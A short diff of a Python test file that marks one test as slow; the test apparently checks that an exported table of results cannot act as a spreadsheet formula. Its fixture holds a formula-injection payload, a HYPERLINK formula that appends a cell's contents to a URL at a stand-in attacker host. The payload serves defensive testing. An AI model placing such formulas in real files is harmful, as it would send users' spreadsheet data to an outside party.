@@ -117,6 +117,7 @@ def test_a_name_that_means_harm_is_refused_or_harmless(tmp_path: Path) -> None:
                 assert harm not in page, (path, harm)
 
 
+@pytest.mark.slow
 def test_a_table_of_hits_is_no_spreadsheet_program(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Kim Jong Un")'
     with newsroom(tmp_path) as room:
